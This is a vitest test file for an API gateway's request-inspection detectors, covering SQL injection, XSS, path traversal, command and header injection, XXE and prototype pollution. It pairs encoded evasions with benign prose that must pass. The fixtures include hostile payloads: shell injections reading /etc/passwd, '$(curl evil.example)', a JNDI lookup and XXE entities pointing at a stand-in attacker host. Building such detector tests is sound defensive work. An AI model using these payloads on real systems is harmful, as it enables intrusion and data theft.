import { describe, expect, it } from 'vitest';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { loadConfig } from '../../src/config/index.js';
import {
  DEFAULT_INSPECTION_LIMITS,
  detectCommandInjection,
  detectHeaderInjection,
  detectSqlInjection,
  detectTraversal,
  detectXmlEntities,
  detectXss,
  InspectionBudget,
  inspectRequest,
  inspectValue,
  isInspectedHeader,
  isPrototypeKey,
  MAX_BODY_DEPTH,
  MAX_BODY_NODES,
  sqlFingerprint,
  type InspectOptions,
} from '../../src/security/detect/index.js';
import { foldLookalikes, htmlEntityDecodeOnce, LOOKALIKE_CHARS, markupDecode, percentDecode } from '../../src/security/detect/decode.js';

const STRICT: InspectOptions = { mode: 'strict' };
const QUERY_ROUTE: InspectOptions = { mode: 'strict', textFields: new Set(['query', 'prompt', 'message']), freeTextFields: new Set(['code']) };
const get = (path: string, query = '', headers: Record<string, string | string[] | undefined> = {}) => ({ path, query, headers });
const post = (path: string, body: unknown) => ({ path, query: '', headers: {}, body });

describe('the prose the issue names passes strict mode', () => {
  for (const text of [
    'select the best option from the table',
    'drop me a note when the job finishes',
    "O'Reilly",
    'I <3 this',
    '1=1 in boolean algebra',
  ]) {
    it(JSON.stringify(text), () => {
      for (const position of ['query', 'body', 'header'] as const) expect(inspectValue(text, 'strict', position)).toBeNull();
    });
  }
});

describe('SQL injection', () => {
  it('fingerprints token structure in the three contexts', () => {
    expect(sqlFingerprint("' OR 1=1--", 39, 16)).toBe('s&nonc');
    expect(sqlFingerprint("1' OR '1'='1", 39, 16)).toBe('s&soq');
    expect(sqlFingerprint('1 UNION ALL SELECT NULL,2--', 0, 16)).toBe('nUASn,nc');
    expect(sqlFingerprint('select the best option from the table', 0, 16)).toBe('SbbbMbT');
    expect(sqlFingerprint("O'Reilly", 0, 16)).toBe('bq');
    expect(sqlFingerprint("O'Reilly", 39, 16)).toBe('sb');
    expect(sqlFingerprint('no quote here', 34, 16)).toBe('q');
    expect(sqlFingerprint("x'/*!50000UNION*/ SELECT 1", 39, 16)).toBe('sUSn');
    expect(sqlFingerprint("'; EXEC master..xp_cmdshell 'dir'", 39, 16)).toBe('s;XFs');
  });

  it.each([
    ["' OR '1'='1", 'tautology with the trailing string left open'],
    ["admin'--", 'comment truncation after a quote break'],
    ['1 OR 1=1', 'numeric context'],
    ["') OR ('a'='a", 'parenthesised'],
    ["' UNION ALL SELECT NULL,NULL--", 'union'],
    ["1; DROP TABLE users", 'stacked'],
    ["'; WAITFOR DELAY '0:0:5'--", 'time-based (MSSQL)'],
    ["' AND SLEEP(5)#", 'time-based (MySQL)'],
    ["'||pg_sleep(10)--", 'time-based (PostgreSQL)'],
    ["' AND extractvalue(1,concat(0x7e,version()))--", 'error-based'],
    ['%27%20OR%201%3D1--', 'percent-encoded'],
    ["'/**/OR/**/1=1--", 'comments as whitespace'],
    ["' OR @@version IS NOT NULL--", 'system variable'],
    ['1 ORDER BY 5', 'column enumeration'],
    ["1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))--", 'a comparison word before a subquery'],
    ["1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)--", 'a call after GROUP BY (error-based)'],
  ])('detects %s (%s)', (payload) => {
    expect(detectSqlInjection(payload, percentDecode(payload))).toBe(true);
  });

  it.each([
    'Can you select all the notes from last week and summarize them?',
    'Please drop the meeting from my calendar on Friday.',
    'Delete the reminder about the dentist, it\'s done.',
    'Insert into my journal: today was a good day',
    'Order by date desc, please, and drop duplicates',
    'Union or non-union workers: what\'s the difference in pay?',
    "He said 'yes' and then 'no'",
    '"AND" or "OR" — which one narrows a search?',
    'Is it true or false that 2 + 2 = 4?',
    'true && false',
    '1 or 2 days, depending on the queue',
    'x = 3; y = 4; what is x*y?',
    'Drop table tennis from my hobbies list',
    'Great -- thanks!',
    'C# or F#?',
    "It's 5 o'clock somewhere",
  ])('lets prose through: %s', (text) => {
    expect(detectSqlInjection(text)).toBe(false);
  });
});

describe('XSS', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '" onmouseover="alert(1)',
    '"><script>alert(1)</script>',
    '</textarea><script>alert(1)</script>',
    'javascript:alert(1)',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '%253Cscript%253Ealert(1)%253C%252Fscript%253E',
    '\\u003cscript\\u003ealert(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    '<div style="width: expression(alert(1))">',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "{{constructor.constructor('alert(1)')()}}",
  ])('detects %s', (payload) => {
    expect(detectXss(payload)).toBe(true);
  });

  it.each([
    'I <3 this',
    'a < b and c > d',
    'x<y',
    '<3 <3 <3',
    '<b>important</b> note',
    'Promise<void> and Map<string, number>',
    'Link: <https://example.com/page>',
    'I\'m reading "JavaScript: The Good Parts" again',
    'Java vs JavaScript: which should I learn first?',
    'Data: the new oil?',
    'Use {{name}} as a placeholder',
    'AT&T and R&D',
    '**bold**, _italic_, `code`, [link](https://example.com)',
  ])('lets text through: %s', (text) => {
    expect(detectXss(text)).toBe(false);
  });

  it('decodes entities and escapes a bounded number of rounds', () => {
    expect(htmlEntityDecodeOnce('&#60;&#x3c;&lt&amp;AT&T')).toBe('<<<&AT&T');
    expect(htmlEntityDecodeOnce('&amplifier &LT; &#x1F600; &#0; &#x110000; &ltx')).toBe('&amplifier < 😀 &#0; &#x110000; &ltx');
    expect(markupDecode('%2526lt%253B')).toBe('<');
    // entities nested deeper than the rounds stay partly encoded rather than looping
    expect(markupDecode('&amp;amp;amp;amp;lt;')).toBe('&amp;lt;');
  });
});

describe('percent-decoding', () => {
  // Issue 11, item 9: four (or more) rounds of percent-encoding, decoded in one linear pass.
  it.each([
    ['%2e', '.'],
    ['%252e', '.'],
    ['%25252e', '.'],
    ['%2525252e%2525252e%2525252f', '../'],
    ['%25252525252e', '.'],
    ['%2%35', '%'],
    ['%%34%31', 'A'],
    ['%u002e%u002E%u002f', '../'],
    ['%u0025%32%65', '.'],
    ['%c0%ae%c0%2e%c0%af', '../'],
    ['%25c0%25ae%25c0%252e', '..'],
    ['%E2%80%A5', '\u2025'],
    ['%25E2%2580%25A5', '\u2025'],
    ['100%', '100%'],
    ['50%zz and %', '50%zz and %'],
    ['%ff%fe', '%ff%fe'],
    ['a+b', 'a+b'],
  ])('%s -> %s', (encoded, decoded) => {
    expect(percentDecode(encoded)).toBe(decoded);
  });

  it('decodes to a fixed point: nothing decodable is left', () => {
    for (const s of ['%25' + '25'.repeat(50) + '2e', '%%%252e2e', '%2525%32%35%32%65']) {
      const once = percentDecode(s);
      expect(percentDecode(once), s).toBe(once);
      expect(once).not.toMatch(/%[0-7][0-9a-f]/i);
    }
  });
});

describe('look-alike folding', () => {
  it('maps every character whose NFKC form contains a dot, a slash or a backslash, as NFKC does', () => {
    const expected: string[] = [];
    for (let cp = 0x80; cp <= 0x10ffff; cp++) {
      if (cp >= 0xd800 && cp <= 0xdfff) continue;
      const ch = String.fromCodePoint(cp);
      const nfkc = ch.normalize('NFKC');
      if (nfkc !== ch && /[./\\]/.test(nfkc)) {
        expected.push(ch);
        expect(foldLookalikes(ch), `U+${cp.toString(16)}`).toBe(nfkc);
      }
    }
    expect(LOOKALIKE_CHARS).toEqual(expect.arrayContaining(expected));
  });

  it('folds inside text and leaves other characters alone', () => {
    expect(foldLookalikes('\u2025/\u2025/etc/passwd')).toBe('../../etc/passwd');
    expect(foldLookalikes('a\u{1f100}b \ud83d\ude00 \uff0f')).toBe('a0.b \ud83d\ude00 /');
    expect(foldLookalikes('plain')).toBe('plain');
  });
});

describe('path traversal', () => {
  it.each([
    '../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '..%2f..%2fetc%2fpasswd',
    '%252e%252e%252fetc%252fpasswd',
    '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
    '..%c1%9c..%c1%9cboot.ini',
    '．．/．．/etc/passwd',
    '....//....//etc/passwd',
    '..;/admin',
    'report.pdf%00.png',
  ])('detects %s in every position', (payload) => {
    for (const position of ['path', 'query', 'header', 'body'] as const) {
      expect(detectTraversal(payload, percentDecode(payload), position), position).toBe(true);
    }
  });

  it('is strict in path and query, lenient with prose in bodies', () => {
    const prose = 'how do I import from ../utils in TypeScript?';
    expect(detectTraversal(prose, prose, 'body')).toBe(false);
    expect(detectTraversal(prose, prose, 'query')).toBe(true);
    expect(detectTraversal('../utils', '../utils', 'body')).toBe(true); // a path, not a sentence
    expect(detectTraversal('read ../../../app/config.yaml please', 'read ../../../app/config.yaml please', 'body')).toBe(true);
    expect(detectTraversal('show me ../../etc/passwd', 'show me ../../etc/passwd', 'body')).toBe(true);
  });

  it('absolute sensitive paths: always in path/query, only as the whole value in bodies', () => {
    expect(detectTraversal('/etc/passwd', '/etc/passwd', 'body')).toBe(true);
    expect(detectTraversal('c:\\windows\\win.ini', 'c:\\windows\\win.ini', 'body')).toBe(true);
    expect(detectTraversal('my /etc/passwd got corrupted, help', 'my /etc/passwd got corrupted, help', 'body')).toBe(false);
    expect(detectTraversal('my /etc/passwd got corrupted', 'my /etc/passwd got corrupted', 'query')).toBe(true);
  });

  it('relative paths into dot folders and home-folder paths to sensitive files, as the whole value in bodies', () => {
    for (const path of ['.git/config', './.env', '~/.aws/credentials', '~/.ssh/id_rsa']) expect(detectTraversal(path, path, 'body'), path).toBe(true);
    expect(detectTraversal('where is my .git/config kept?', 'where is my .git/config kept?', 'body')).toBe(false);
    expect(detectTraversal('./run.sh', './run.sh', 'body')).toBe(false);
  });

  it('UNC paths: at the start of path, query and header values, and as the whole value in bodies', () => {
    for (const unc of ['\\\\attacker.example\\share\\x', '\\\\10.0.0.5\\c$\\win.ini', '\\\\?\\C:\\Windows\\win.ini']) {
      for (const position of ['path', 'query', 'header', 'body'] as const) expect(detectTraversal(unc, unc, position), `${unc} ${position}`).toBe(true);
    }
    const prose = 'Please save it to \\\\fileserver\\team before Friday';
    expect(detectTraversal(prose, prose, 'body')).toBe(false);
    expect(detectTraversal('\\d+ matches digits', '\\d+ matches digits', 'query')).toBe(false);
  });

  it.each(['Go back to the ... previous page', 'Wait... what?', 'hmm.. not sure', 'my notes are in docs/2024/plan.md', 'cd .. and then docs'])(
    'lets prose through everywhere: %s',
    (text) => {
      for (const position of ['path', 'query', 'header', 'body'] as const) expect(detectTraversal(text, text, position)).toBe(false);
    },
  );
});

describe('command injection', () => {
  it.each([
    '; id',
    ';id;',
    '| whoami',
    '&& cat /etc/passwd',
    '`whoami`',
    'foo`id`bar',
    '$(curl evil.example)',
    ';cat${IFS}/etc/passwd',
    ';{cat,/etc/passwd}',
    "; c'a't /etc/passwd",
    ';/???/??t /???/p??s??',
    'x\nwhoami',
    '& ping -n 10 127.0.0.1',
    '&& net user',
    '${jndi:ldap://evil.example/a}',
  ])('detects %s', (payload) => {
    expect(detectCommandInjection(payload)).toBe(true);
  });

  it.each([
    'cats; dogs',
    'rock & roll',
    'AT&T and T-Mobile',
    'Tom & Jerry; Ben & Jerry',
    'time & date of the next sync?',
    'pros | cons',
    '| id | name | type |',
    'Note to self; call the bank',
    'Ping me when the job is done',
    'Shopping list:\ncat food\nmilk',
    'run `ls -la` to see hidden files',
    'village-cli/0.3.1 (linux; node v24.1.0)',
    'Price: $20 (was $25)',
  ])('lets prose through: %s', (text) => {
    expect(detectCommandInjection(text)).toBe(false);
  });
});

describe('header injection (CRLF)', () => {
  it.each([
    '\r\nSet-Cookie: sid=attacker',
    'x\nLocation: https://evil.example',
    'x\rset-cookie:a=1',
    'en\r\n \tContent-Length : 0',
    'a\r\n\r\nHTTP/1.1 200 OK',
    'a\nHTTP/2 302 Found',
    '\r\nX-Anything-At-All: 1',
    '\r\nAccess-Control-Allow-Origin: *',
    '\u010a\u010dLocation: //evil.example',
    '\u560a\u560dSet-Cookie: a=1',
    '\u2028Refresh: 0',
    '\u0085Host: internal',
  ])('detects %j', (payload) => {
    expect(detectHeaderInjection(payload)).toBe(true);
  });

  it.each([
    'Line one\nLine two',
    'Notes:\nTodo: buy milk',
    'Cookie recipe:\nflour',
    'Location of the office:\nBerlin',
    'Compare\nHTTP/2 and HTTP/3',
    'status\nHTTP 404 means not found',
    'x-',
    'Set-Cookie: a=1',
    '\n',
  ])('lets multi-line text through: %j', (text) => {
    expect(detectHeaderInjection(text)).toBe(false);
  });

  it('is checked, percent-decoded, in the path, the query and headers, in strict mode only, never in a body', () => {
    expect(inspectRequest(get('/v1/twin/x', 'next=%2F%0d%0aLocation:%20https://evil.example'), STRICT)).toEqual({ rule: 'header_injection', location: 'query', field: 'next' });
    expect(inspectRequest(get('/v1/twin/a%250d%250aSet-Cookie:x=1'), STRICT)).toEqual({ rule: 'header_injection', location: 'path' });
    expect(inspectRequest(get('/v1/twin/x', '', { cookie: 'lang=en%0d%0aSet-Cookie:%20a=b' }), STRICT)).toEqual({ rule: 'header_injection', location: 'header', field: 'cookie' });
    expect(inspectRequest(post('/v1/twin/notes', { text: 'Standup\nLocation: room 4\nHost: Anna' }), STRICT)).toBeNull();
    expect(inspectValue('%0d%0aSet-Cookie: a=1', 'text', 'query')).toBeNull();
  });
});

describe('XML entities', () => {
  it.each([
    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>',
    '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>',
    "<!DOCTYPE r PUBLIC 'id' 'http://evil.example/x.dtd'><r/>",
    '<!doctype r [<!entity a "aaaa">]><r>&a;&a;</r>',
    '\ufeff <!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>',
    '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/hostname"/></r>',
  ])('detects %j', (payload) => {
    expect(detectXmlEntities(payload)).toBe(true);
  });

  it.each([
    '<?xml version="1.0"?><note><to>Tove</to></note>',
    '<!DOCTYPE html><p>hi</p>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN"><p>hi</p>',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>',
    'What does <!ENTITY x SYSTEM "file:///etc/passwd"> do?',
    '<config><entity>customer</entity><system>billing</system></config>',
    '<!DOCTYPE r',
  ])('lets documents without entities, and prose, through: %j', (text) => {
    expect(detectXmlEntities(text)).toBe(false);
  });

  it('is checked in strict mode wherever a value is an XML document, percent-encoded or not', () => {
    const xxe = '<!DOCTYPE r [<!ENTITY x SYSTEM "https://evil.example/">]><r>&x;</r>';
    expect(inspectRequest(post('/v1/knowledge/ingest', xxe), STRICT)).toEqual({ rule: 'xml_entity', location: 'body' });
    expect(inspectRequest(post('/v1/knowledge/ingest', { doc: xxe }), STRICT)).toEqual({ rule: 'xml_entity', location: 'body', field: 'doc' });
    expect(inspectRequest(get('/v1/knowledge/x', `doc=${encodeURIComponent(xxe)}`), STRICT)).toEqual({ rule: 'xml_entity', location: 'query', field: 'doc' });
    expect(inspectValue(xxe, 'text', 'body')).toBeNull();
  });
});

describe('prototype pollution', () => {
  it.each(['__proto__', '__proto__[admin]', 'a[__proto__][b]', 'a.__proto__.b', 'constructor[prototype][admin]', 'constructor.prototype', "x['constructor']['prototype']"])(
    'detects the key %j',
    (key) => {
      expect(isPrototypeKey(key)).toBe(true);
    },
  );

  it.each(['proto', 'prototype', 'constructor', 'prototype_id', 'my__proto__field', 'constructors[prototype]'])('lets the key %j through', (key) => {
    expect(isPrototypeKey(key)).toBe(false);
  });

  it('refuses such keys in query strings and bodies, nested or not, in strict and text mode', () => {
    expect(inspectRequest(get('/v1/twin/x', '__proto__[admin]=1'), STRICT)).toEqual({ rule: 'prototype_pollution', location: 'query', field: '?' });
    expect(inspectRequest(post('/v1/twin/x', JSON.parse('{"a":{"__proto__":{"admin":true}}}')), STRICT)).toEqual({ rule: 'prototype_pollution', location: 'body', field: 'a.?' });
    expect(inspectRequest(post('/v1/twin/x', { constructor: { prototype: { admin: true } } }), STRICT)).toEqual({ rule: 'prototype_pollution', location: 'body', field: 'constructor.?' });
    expect(inspectRequest(post('/v1/query', JSON.parse('{"query":{"__proto__":{"x":1}}}')), QUERY_ROUTE)).toMatchObject({ rule: 'prototype_pollution' });
    expect(inspectRequest(post('/v1/twin/x', { prototype: 1, constructor: 'x', proto: { a: 1 } }), STRICT)).toBeNull();
  });
});

describe('modes', () => {
  it('text mode lets SQL- and shell-looking prose through but still blocks script injection and traversal', () => {
    expect(inspectValue("Why does ' OR 1=1 -- show up in my logs?", 'text')).toBeNull();
    expect(inspectValue("Why does ' OR 1=1 -- show up in my logs?", 'strict')).toBe('sql_injection');
    expect(inspectValue('What does `; rm -rf /` do?', 'text')).toBeNull();
    expect(inspectValue('<script>alert(1)</script>', 'text')).toBe('xss');
    expect(inspectValue('../../../etc/passwd', 'text')).toBe('path_traversal');
  });

  it('off inspects nothing', () => {
    const req = { ...get('/v1/x/..%2f..%2fetc%2fpasswd', 'q=%27%20OR%201%3D1--'), body: { t: '<script>alert(1)</script>' } };
    expect(inspectRequest(req, { mode: 'off' })).toBeNull();
    expect(inspectRequest(req, STRICT)).not.toBeNull();
  });

  it('textFields switch a body field (and a query parameter) to text mode', () => {
    const sqlProse = 'I typed 1; DROP TABLE notes -- did I lose data?';
    expect(inspectRequest(post('/v1/query', { query: sqlProse }), QUERY_ROUTE)).toBeNull();
    expect(inspectRequest(post('/v1/query', { note: sqlProse }), QUERY_ROUTE)).toEqual({ rule: 'sql_injection', location: 'body', field: 'note' });
    expect(inspectRequest(get('/v1/query', `prompt=${encodeURIComponent(sqlProse)}`), QUERY_ROUTE)).toBeNull();
    expect(inspectRequest(post('/v1/query', { query: '<img src=x onerror=alert(1)>' }), QUERY_ROUTE)?.rule).toBe('xss');
  });

  it('free-text fields are not inspected, whatever they hold; their siblings still are', () => {
    const code = "<script>\n  fetch('/x?q=' + \"' OR 1=1 --\");\n</script>\nimport a from '../../a.js'; cat /etc/passwd | sh";
    expect(inspectRequest(post('/v1/knowledge/ask', { code, question: 'why does this fail?' }), QUERY_ROUTE)).toBeNull();
    expect(inspectRequest(post('/v1/knowledge/ask', { code, question: '<svg onload=alert(1)>' }), QUERY_ROUTE)).toEqual({
      rule: 'xss',
      location: 'body',
      field: 'question',
    });
    // a free-text field holding an object: the whole subtree is free text
    expect(inspectRequest(post('/v1/knowledge/ask', { code: { files: [{ text: code }] } }), QUERY_ROUTE)).toBeNull();
  });

  it('field names may be dotted paths (without array indices)', () => {
    const options: InspectOptions = { mode: 'strict', freeTextFields: new Set(['snippet.body']) };
    expect(inspectRequest(post('/v1/x', { snippet: { body: '<script>x()</script>' } }), options)).toBeNull();
    expect(inspectRequest(post('/v1/x', { other: { body: '<script>x()</script>' } }), options)?.rule).toBe('xss');
  });
});

describe('inspectRequest', () => {
  it('checks path segments after percent-decoding, and the whole path for traversal', () => {
    expect(inspectRequest(get('/v1/knowledge/documents/..%2f..%2fetc%2fpasswd'), STRICT)).toEqual({ rule: 'path_traversal', location: 'path' });
    expect(inspectRequest(get('/v1/knowledge/documents/%252e%252e%252fsecret'), STRICT)?.rule).toBe('path_traversal');
    expect(inspectRequest(get('/v1/docs//etc/passwd'), STRICT)?.rule).toBe('path_traversal');
    expect(inspectRequest(get('/v1/users/1%20OR%201%3D1'), STRICT)).toEqual({ rule: 'sql_injection', location: 'path' });
    expect(inspectRequest(get('/v1/knowledge/documents/Q3%20report%20(final).pdf'), STRICT)).toBeNull();
  });

  it('checks query keys and values, naming the parameter', () => {
    expect(inspectRequest(get('/v1/search', 'q=hello&sort=1%20ORDER%20BY%205'), STRICT)).toEqual({ rule: 'sql_injection', location: 'query', field: 'sort' });
    expect(inspectRequest(get('/v1/search', '%3Cscript%3Ealert(1)%3C%2Fscript%3E=1'), STRICT)?.location).toBe('query');
    expect(inspectRequest(get('/v1/search', 'q=select+the+best+option+from+the+table&page=2'), STRICT)).toBeNull();
  });

  it('inspects user-data headers but never the gateway’s own credentials', () => {
    expect(isInspectedHeader('User-Agent')).toBe(true);
    expect(isInspectedHeader('x-client-context')).toBe(true);
    expect(isInspectedHeader('authorization')).toBe(false);
    expect(isInspectedHeader('x-api-key')).toBe(false);
    expect(isInspectedHeader('accept')).toBe(false);
    expect(inspectRequest(get('/v1/x', '', { 'user-agent': "' OR 1=1--" }), STRICT)).toEqual({ rule: 'sql_injection', location: 'header', field: 'user-agent' });
    expect(inspectRequest(get('/v1/x', '', { 'x-note': ['ok', '<script>alert(1)</script>'] }), STRICT)?.field).toBe('x-note');
    expect(inspectRequest(get('/v1/x', '', { authorization: "Bearer ' OR 1=1--", 'x-api-key': "' OR 1=1--" }), STRICT)).toBeNull();
  });

  // Issue 11, item 9: these reach the upstream as sent, so they are inspected like any user data.
  it.each(['cookie', 'x-forwarded-port', 'x-auth-token', 'x-access-token', 'x-csrf-token', 'x-forwarded-for'])(
    'inspects the forwarded header %s',
    (name) => {
      expect(isInspectedHeader(name)).toBe(true);
      expect(inspectRequest(get('/v1/x', '', { [name]: "' OR 1=1--" }), STRICT)).toEqual({ rule: 'sql_injection', location: 'header', field: name });
    },
  );

  it('inspects every cookie name and value, and lets ordinary cookies through', () => {
    const cookie = (value: string) => inspectRequest(get('/v1/x', '', { cookie: value }), STRICT);
    expect(cookie('sid=abc123; pref=<script>alert(1)</script>')).toEqual({ rule: 'xss', location: 'header', field: 'cookie' });
    expect(cookie('sid=abc123; q="1 or 1"')?.rule).toBe('sql_injection');
    expect(cookie('theme=dark; file=..%2f..%2fetc%2fpasswd')?.rule).toBe('path_traversal');
    expect(cookie('a=1; run=x|id')?.rule).toBe('command_injection');
    expect(cookie('a=1; $(id)=1')?.rule).toBe('command_injection');
    expect(cookie('_ga=GA1.2.1234567890.1700000000; theme=dark; lang=en-US')).toBeNull();
    expect(cookie('session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl; csrftoken=Xk8-2_aZ')).toBeNull();
    expect(cookie('consent=%7B%22analytics%22%3Atrue%2C%22ads%22%3Afalse%7D')).toBeNull();
  });

  it('walks nested JSON (objects, arrays, keys) and names the field by its path', () => {
    const body = { messages: [{ role: 'user', content: 'hi' }, { role: 'user', content: { parts: ['fine', "x' UNION SELECT password FROM users--"] } }] };
    expect(inspectRequest(post('/v1/twin/chat', body), STRICT)).toEqual({ rule: 'sql_injection', location: 'body', field: 'messages[1].content.parts[1]' });
    expect(inspectRequest(post('/v1/twin/chat', { meta: { '<svg onload=alert(1)>': 1 } }), STRICT)).toEqual({ rule: 'xss', location: 'body', field: 'meta.?' });
    expect(inspectRequest(post('/v1/twin/chat', '../../etc/passwd'), STRICT)).toEqual({ rule: 'path_traversal', location: 'body' });
    expect(inspectRequest(post('/v1/twin/chat', { n: 1, ok: true, nothing: null, list: [1, 2, 3] }), STRICT)).toBeNull();
  });

  it(`rejects bodies nested deeper than ${MAX_BODY_DEPTH} levels without recursing (no stack overflow)`, () => {
    let deep: unknown = 'leaf';
    for (let i = 0; i < 200_000; i++) deep = [deep];
    expect(inspectRequest(post('/v1/x', deep), STRICT)).toMatchObject({ rule: 'input_too_complex', location: 'body' });
    // the same through JSON.parse, as a client would send it
    const parsed: unknown = JSON.parse(`${'{"a":'.repeat(5000)}"x"${'}'.repeat(5000)}`);
    expect(inspectRequest(post('/v1/x', parsed), STRICT)?.rule).toBe('input_too_complex');
    let ok: unknown = 'fine';
    for (let i = 0; i < MAX_BODY_DEPTH; i++) ok = { a: ok };
    expect(inspectRequest(post('/v1/x', ok), STRICT)).toBeNull();
  });

  it(`rejects bodies with more than ${MAX_BODY_NODES} values instead of checking only part`, () => {
    const wide = Array.from({ length: MAX_BODY_NODES + 1 }, () => 'x');
    expect(inspectRequest(post('/v1/x', wide), STRICT)).toEqual({ rule: 'input_too_complex', location: 'body' });
    expect(inspectRequest(post('/v1/x', wide.slice(0, 1000)), STRICT)).toBeNull();
  });

  it('never echoes the payload: only the rule class, location and a sanitised field name', () => {
    const payload = "zz'; DROP TABLE users--";
    const findings = [
      inspectRequest(get(`/v1/x/${encodeURIComponent(payload)}`), STRICT),
      inspectRequest(get('/v1/x', `q=${encodeURIComponent(payload)}`), STRICT),
      inspectRequest(get('/v1/x', `${encodeURIComponent(payload)}=1`), STRICT),
      inspectRequest(get('/v1/x', '', { 'x-evil': payload }), STRICT),
      inspectRequest(post('/v1/x', { a: { [payload]: 'v' } }), STRICT),
      inspectRequest(post('/v1/x', { [payload]: { b: payload } }), STRICT),
    ];
    for (const finding of findings) {
      expect(finding).not.toBeNull();
      const text = JSON.stringify(finding);
      expect(text).not.toContain('DROP');
      expect(text).not.toContain("zz'");
      expect(Object.keys(finding ?? {}).every((k) => ['rule', 'location', 'field'].includes(k))).toBe(true);
    }
    expect(findings[2]?.field).toBe('?');
    expect(findings[4]?.field).toBe('a.?');
    expect(findings[5]?.field).toBe('?');
  });
});

// Issue 11, item 9: evasions that passed the original detectors.
describe('evasions', () => {
  it.each(['1 or 1', '1 || 1', '1 xor 1', '0 or 1 limit 1', '1 procedure analyse()', '(1) or (1)', '1 and 0 -- ', "' or 1", '2 || 2 order by 1'])(
    'SQL in a numeric context: %s',
    (payload) => {
      expect(inspectValue(payload, 'strict', 'query')).toBe('sql_injection');
    },
  );

  it.each([
    '; w$()hoami',
    '; i$@d',
    "; 'i'd",
    "; $'\\x69\\x64'",
    "; $'\\151\\144'",
    '; ${PATH:0:1}bin${PATH:0:1}id',
    '; X=id;$X',
    'a; X=id; ${X}',
    'a & id',
    '; `echo aWQ= | base64 -d`',
    'x `echo aWQ= | base64 -d`',
    '&& echo x > /tmp/pwn',
  ])('shell: %s', (payload) => {
    expect(detectCommandInjection(payload)).toBe(true);
  });

  it.each(['\u2025/\u2025/etc/passwd', '%E2%80%A5/%E2%80%A5/etc/passwd', '%2525252e%2525252e%2525252fetc%2525252fpasswd', '\ufe30/\ufe30/etc/hosts'])(
    'traversal: %s',
    (payload) => {
      for (const position of ['path', 'query', 'header', 'body'] as const) {
        expect(detectTraversal(payload, percentDecode(payload), position), position).toBe(true);
      }
    },
  );

  it.each([
    '1 or 2 people',
    '1 or 2 days, depending on the queue',
    'Tom & Jerry',
    'rock & roll',
    'time & date',
    'Price: $20 (was $25)',
    'It costs $5; shipping is $2',
    'Hello ${name}; ${greeting}',
    "Is 'or' a reserved word in most languages?",
    "Compare Python's sleep() with JavaScript's setTimeout()",
    'wait\u2026 what?',
  ])('still lets prose through: %s', (text) => {
    expect(inspectValue(text, 'strict', 'body')).toBeNull();
  });
});

describe('inspection budget', () => {
  it('the configuration defaults are the detectors\' defaults, and bad values stop start-up', () => {
    const loaded = loadConfig({});
    if (!loaded.ok) throw new Error(loaded.problems.join('\n'));
    expect({ valueChars: loaded.config.limits.inspectValueBytes, requestChars: loaded.config.limits.inspectRequestBytes }).toEqual(DEFAULT_INSPECTION_LIMITS);
    expect(loaded.config.limits.inspectValueBytes).toBeGreaterThanOrEqual(loaded.config.limits.jsonBodyBytes);
    const file = join(mkdtempSync(join(tmpdir(), 'gw-detect-')), 'limits.yaml');
    writeFileSync(file, 'limits: { inspectValueBytes: 10, inspectRequestBytes: 4096 }\n');
    const bad = loadConfig({}, { file });
    expect(bad.ok).toBe(false);
    if (!bad.ok) expect(bad.problems.join('\n')).toContain('inspectValueBytes');
  });

  it('defaults inspect a whole default-size JSON body (1 MiB) with room for the head', () => {
    expect(DEFAULT_INSPECTION_LIMITS.valueChars).toBe(1024 * 1024);
    expect(DEFAULT_INSPECTION_LIMITS.requestChars).toBeGreaterThan(1024 * 1024);
    expect(inspectRequest(post('/v1/x', { text: 'a '.repeat(512 * 1024) }), STRICT)).toBeNull();
  });

  it('a value over the per-value limit is input_too_large, wherever it is', () => {
    const budget = () => new InspectionBudget({ valueChars: 100, requestChars: 10_000 });
    const big = 'x'.repeat(101);
    expect(inspectRequest(post('/v1/x', { a: { b: big } }), STRICT, budget())).toEqual({ rule: 'input_too_large', location: 'body', field: 'a.b' });
    expect(inspectRequest(post('/v1/x', { [big]: 1 }), STRICT, budget())).toMatchObject({ rule: 'input_too_large', location: 'body' });
    expect(inspectRequest(get('/v1/x', `q=${big}`), STRICT, budget())).toEqual({ rule: 'input_too_large', location: 'query', field: 'q' });
    expect(inspectRequest(get('/v1/x', '', { 'x-note': big }), STRICT, budget())).toEqual({ rule: 'input_too_large', location: 'header', field: 'x-note' });
    expect(inspectRequest(get(`/v1/${big}`), STRICT, budget())).toEqual({ rule: 'input_too_large', location: 'path' });
    expect(inspectRequest(post('/v1/x', { a: 'x'.repeat(100) }), STRICT, budget())).toBeNull();
  });

  it('the per-request limit counts every inspected value, across calls sharing one budget', () => {
    const budget = new InspectionBudget({ valueChars: 1000, requestChars: 2500 });
    expect(inspectRequest(get('/v1/x', `q=${'a'.repeat(1000)}`), STRICT, budget)).toBeNull();
    expect(budget.remaining).toBe(2500 - '/v1/x'.length - 'q'.length - 1000);
    expect(inspectRequest(post('/', { a: 'b'.repeat(1000) }), STRICT, budget)).toBeNull();
    expect(inspectRequest(post('/', { c: 'd'.repeat(1000) }), STRICT, budget)).toMatchObject({ rule: 'input_too_large', location: 'body' });
    // free-text fields are not inspected, so they cost nothing
    const free = new InspectionBudget({ valueChars: 10, requestChars: 10 });
